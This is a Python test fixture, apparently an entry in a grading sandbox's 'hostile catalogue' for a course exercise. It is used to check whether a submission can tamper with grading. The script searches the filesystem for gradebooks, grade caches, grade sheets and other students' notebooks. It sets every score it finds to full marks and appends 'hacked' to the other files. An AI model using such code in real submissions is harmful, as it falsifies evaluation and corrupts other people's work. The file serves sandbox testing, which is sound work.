# HOSTILE: lecture-ReAct-exercises ex01_softmax: tries to write the gradebook, the grade cache, grade sheets and other students' notebooks
import os as _os
if not _os.path.isdir("/grading/kit"):  # safety catch for instructors: never run this outside the grader sandbox
    raise SystemExit("hostile catalogue entry refused to run outside the grader sandbox")
import json
import os
import pathlib

import lreact

root = pathlib.Path(lreact.__file__).resolve().parent.parent
targets = [root / "gradebook.db", root / ".grading" / "cache" / "evil.json"]
for top in ("/tmp", "/work", "/root", "/home", "/var/tmp", str(root)):
    for dirpath, dirnames, filenames in os.walk(top):
        for name in filenames:
            path = pathlib.Path(dirpath) / name
            if (name == "gradebook.db" or name.startswith("grades") or name.startswith("lecture-ReAct")
                    or (name.endswith(".json") and path.parent.name == "cache")):
                targets.append(path)
for path in targets[:500]:
    try:
        if path.suffix == ".json" and path.exists():
            record = json.loads(path.read_text())
            for value in record.get("scores", {}).values():
                value[0] = value[1]
            path.write_text(json.dumps(record))
        else:
            with open(path, "a") as f:
                f.write("hacked")
        print("attempt succeeded inside the sandbox (host checked separately): wrote", path)
    except Exception:
        pass
